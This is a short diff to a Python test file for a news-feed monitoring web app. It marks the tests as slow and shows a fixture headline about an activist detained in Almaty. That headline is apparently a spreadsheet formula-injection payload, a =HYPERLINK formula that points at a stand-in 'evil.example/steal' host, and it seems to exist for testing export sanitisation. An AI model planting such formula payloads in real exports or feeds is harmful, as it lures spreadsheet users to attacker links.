@@ -20,6 +20,8 @@ from monitor.app.web.app import create_app
 from tests.http_feeds import FeedServer
 from tests.web.conftest import PASSWORD, USER, log_in, rss
 
+pytestmark = pytest.mark.slow(reason="runs `monitor matches` as a real process")
+
 TITLE = '=HYPERLINK("http://evil.example/steal","Vladimir Kozlov detained in Almaty")'
 ITEMS = [
     ("f1", TITLE, "Police detained the activist Vladimir Kozlov in Almaty on Monday.", 2),
